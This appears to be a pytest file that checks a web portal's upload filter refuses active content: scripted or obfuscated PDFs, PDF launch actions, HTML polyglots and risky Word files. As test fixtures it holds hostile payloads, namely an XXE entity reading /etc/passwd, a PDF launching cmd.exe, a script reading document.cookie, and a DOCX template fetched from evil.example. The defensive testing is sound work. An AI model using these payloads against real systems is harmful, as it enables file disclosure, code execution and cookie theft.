"""Active content in uploads is refused with a clear reason: scripted PDFs, polyglots, risky Word documents."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest
from sqlalchemy import func, select

from portal.attachments.active import active_content
from portal.attachments.models import Upload
from portal.attachments.sniff import FileType, sniff
from tests.public_site.conftest import GENEROUS, LIMITS
from tests.public_site.helpers import docx_bytes, pdf_bytes, png_bytes


def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    body = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    return body + b"\n".join(objects) + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n" + tail


def flate_stream(content: bytes) -> bytes:
    packed = zlib.compress(content)
    return (
        b"5 0 obj<</Type/ObjStm/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream endobj"
    )


def docx(extra: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for name, text in extra.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def check(data: bytes):
    stream = io.BytesIO(data)
    file_type = sniff(stream)
    assert file_type is not None
    found = active_content(stream, file_type)
    assert stream.tell() == 0
    return found.code if found else None


SETTINGS_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HYPERLINK_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
    ' Target="https://www.gov.cn/" TargetMode="External"/></Relationships>'
)


XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:styles/>'


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (pdf_bytes(), None),
        (png_bytes(), None),
        (docx_bytes(), None),
        (pdf(b"3 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"), "pdf_javascript"),
        (pdf(b"3 0 obj<</OpenAction<</S/J#61vaScript/J#53(x)>>>>endobj"), "pdf_javascript"),
        (pdf(flate_stream(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj")), "pdf_javascript"),
        (pdf(b"3 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj"), "pdf_launch"),
        (pdf(b"3 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj"), "pdf_embedded_file"),
        (pdf(b"% <html><body><script>alert(1)</script></body></html>"), "markup"),
        (png_bytes() + b"<script>alert(document.cookie)</script>", "markup"),
        (pdf(tail=b"PK\x03\x04" + b"\x00" * 4096), "pdf_trailing_data"),
        (docx({"word/_rels/settings.xml.rels": SETTINGS_RELS}), "docx_external"),
        (docx({"word/_rels/document.xml.rels": HYPERLINK_RELS}), None),
        (
            docx({"word/styles.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:styles/>'}),
            "docx_doctype",
        ),
        (docx({"word/embeddings/oleObject1.bin": "\xd0\xcf\x11\xe0"}), "docx_embedded"),
        (docx({"word/activeX/activeX1.xml": "<ax/>"}), "docx_embedded"),
    ],
)
def test_active_content_is_found(data, code):
    assert check(data) == code


@pytest.fixture
def generous_limits(app, monkeypatch):
    for name in LIMITS:
        monkeypatch.setitem(app.config, name, GENEROUS)


def test_uploads_with_active_content_are_refused_with_the_reason(client, dbs, generous_limits):
    scripted = pdf(b"3 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj")
    response = client.post("/api/v1/uploads", data={"file": (io.BytesIO(scripted), "a.pdf")})
    assert response.status_code == 422
    error = response.get_json()["error"]
    assert error["code"] == "active_content" and "JavaScript" in error["message"]
    from flask_babel import refresh

    refresh()  # the test's app context outlives each request, and with it the language chosen
    english = client.post("/api/v1/uploads?lang=en", data={"file": (io.BytesIO(scripted), "a.pdf")})
    assert "This PDF contains JavaScript, so it is refused" in english.get_json()["error"]["message"]
    refresh()
    client.get("/?lang=zh")
    refresh()
    template = docx({"word/_rels/settings.xml.rels": SETTINGS_RELS})
    refused = client.post("/api/v1/uploads", data={"file": (io.BytesIO(template), "a.docx")})
    assert refused.status_code == 422 and "外部资源" in refused.get_json()["error"]["message"]
    assert dbs.scalar(select(func.count()).select_from(Upload)) == 0
    fine = client.post("/api/v1/uploads", data={"file": (io.BytesIO(pdf_bytes()), "a.pdf")})
    assert fine.status_code == 201 and fine.get_json()["content_type"] == FileType.pdf.content_type
